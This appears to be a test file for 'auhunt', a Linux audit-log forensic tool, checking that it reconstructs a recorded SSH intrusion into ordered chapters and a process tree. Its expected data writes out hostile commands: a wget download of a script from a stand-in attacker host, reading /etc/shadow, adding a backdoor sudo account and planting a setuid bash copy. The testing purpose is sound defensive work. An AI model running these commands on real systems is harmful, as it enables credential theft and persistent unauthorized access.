# SPDX-License-Identifier: GPL-3.0-or-later
"""narrative/: what an investigator is to read of the recorded attack, by
`auhunt sessions` and `auhunt tree`: who came from where after how many
attempts, and what followed in which order."""

import json

from suite import AUHUNT, Failure, run

OPTIONS = ("-o", "redact=no", "-o", "hunt_dir=/nonexistent")
ATTACKER, USER, ATTEMPTS = "127.0.0.66", "webadm", 7
SHELL = "-bash"
# In this order; the commands of one chapter in any.
CHAPTERS = (
    ("recon", ("w", "id", "whoami", "uname -a", "lscpu", "ip a", "ps aux",
               "ss -tlnp")),
    ("harvest", ("cat /etc/passwd", "cat /proc/cpuinfo",
                 "find / -xdev -perm -4000 -type f", "cat /etc/crontab")),
    ("download", ("wget -q http://127.0.0.66:8080/x.sh -O /tmp/x.sh",)),
    ("chmod", ("chmod +x /tmp/x.sh",)),
    ("run", ("/bin/sh /tmp/x.sh",)),
    ("crontab", ("crontab -",)))
# What the downloaded script starts.
SCRIPT = "/bin/sh /tmp/x.sh"
STARTED = ["id", "uname -a", "cp /bin/sleep /dev/shm/kworkerds",
           "/dev/shm/kworkerds 1"]
SUDO = ["cat /etc/shadow", "useradd -m -s /bin/bash sysupd",
        "usermod -aG sudo sysupd", "cp /bin/bash /var/tmp/.bash",
        "chmod 4755 /var/tmp/.bash"]


def rows(*argv):
    return [json.loads(line) for line in run(
        [AUHUNT, argv[0], "--json", *OPTIONS, *argv[1:]])
        .decode("ascii").splitlines()]


def of_attacker(path):
    found = [row for row in rows("sessions", path)
             if row.get("addr") == ATTACKER]
    if len(found) != 1:
        raise Failure("%d sessions from %s" % (len(found), ATTACKER))
    return found[0]


def check_session(s):
    for key, want in (("kind", "login"), ("service", "sshd"), ("user", USER),
                      ("failed_before", ATTEMPTS), ("root", True),
                      ("complete", True)):
        if s.get(key) != want:
            yield "%s is %s, should be %s" % (key, s.get(key), want)
    commands = [c["cmd"] for c in s["sudo"]]
    if commands[:len(SUDO)] != SUDO or len(commands) != len(SUDO) + 1 or \
            not commands[-1].startswith("bash -c "):
        yield "by sudo: %s" % commands
    if ("add_user", "sysupd") not in [
            (a["action"], a.get("name")) for a in s["accounts"]]:
        yield "accounts: %s" % s["accounts"]


def check_chapters(cmds):
    at = 0
    for name, wanted in CHAPTERS:
        for cmd in wanted:
            if cmd not in cmds[at:]:
                yield "%s: %s is not there, or too early" % (name, cmd)
        at = max([at] + [cmds.index(cmd, at) + 1 for cmd in wanted
                         if cmd in cmds[at:] and name != "recon"])


def check_text(text):
    """The same for people: a line for each command, in that order."""
    lines = text.splitlines()
    at = 0
    if " login %s by sshd from %s on " % (USER, ATTACKER) not in lines[0]:
        yield "it begins with " + lines[0]
    for name, wanted in CHAPTERS[2:]:
        found = [i for i, line in enumerate(lines)
                 if i >= at and line.endswith(": " + wanted[0])]
        if not found:
            yield "%s: no line after %d" % (name, at)
        else:
            at = found[0]


def check_tree(tree):
    by_guid = {row["guid"]: row for row in tree}

    def cmds(row):
        return [e["cmd"] for e in row["execs"]]

    shell = [row for row in tree if SHELL in cmds(row)]
    if len(shell) != 1:
        yield "%d shells of the session" % len(shell)
        return
    below = [cmd for row in tree for cmd in cmds(row)
             if row.get("parent_guid") == shell[0]["guid"]]
    for name, wanted in CHAPTERS:
        for cmd in wanted:
            if cmd not in below and cmd != "crontab -":
                yield "%s: %s is not below the shell" % (name, cmd)
    script = [row for row in tree if SCRIPT in cmds(row)]
    started = [cmd for row in tree for cmd in cmds(row)
               if script and row.get("parent_guid") == script[0]["guid"]]
    if len(script) != 1 or started != STARTED:
        yield "the script started %s" % started
    for row in tree:
        if row["ses"] != shell[0]["ses"] if row["execs"] else False:
            yield "%s is of session %s" % (row["pid"], row["ses"])
        if row.get("parent_guid", row["guid"]) not in by_guid:
            yield "%s hangs below nobody" % row["pid"]


def check(path):
    s = of_attacker(path)
    ses = str(s["ses"])
    yield from check_session(s)
    whole = rows("sessions", ses, path)
    whole = [row for row in whole if row.get("addr") == ATTACKER]
    cmds = [e["cmd"] for e in whole[0]["events"]
            if e["kind"] == "exec" and e.get("success", True)]
    yield from check_chapters(cmds)
    yield from check_text(run(
        [AUHUNT, "sessions", ses, *OPTIONS, path]).decode())
    yield from check_tree(rows("tree", "--session", ses, path))


def cases(suite, name, path):
    case = "narrative/" + name
    if not suite.wanted(case):
        return
    try:
        suite.case(case, check(path))
    except (Failure, ValueError, KeyError, IndexError) as error:
        suite.fail(case, repr(error))
